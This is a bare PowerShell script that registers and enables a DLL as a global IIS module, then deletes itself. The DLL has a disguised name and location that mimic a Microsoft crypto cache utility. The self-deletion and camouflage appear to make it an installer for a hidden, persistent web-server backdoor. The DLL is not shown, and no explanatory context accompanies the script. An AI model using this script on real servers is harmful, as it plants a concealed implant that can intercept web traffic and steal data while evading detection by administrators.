Import-Module WebAdministration
$dll = 'C:\ProgramData\Microsoft\Crypto\cachutil.dll'
New-WebGlobalModule -Name 'CacheUtilModule' -Image $dll
Enable-WebGlobalModule -Name 'CacheUtilModule'
Remove-Item $MyInvocation.MyCommand.Path
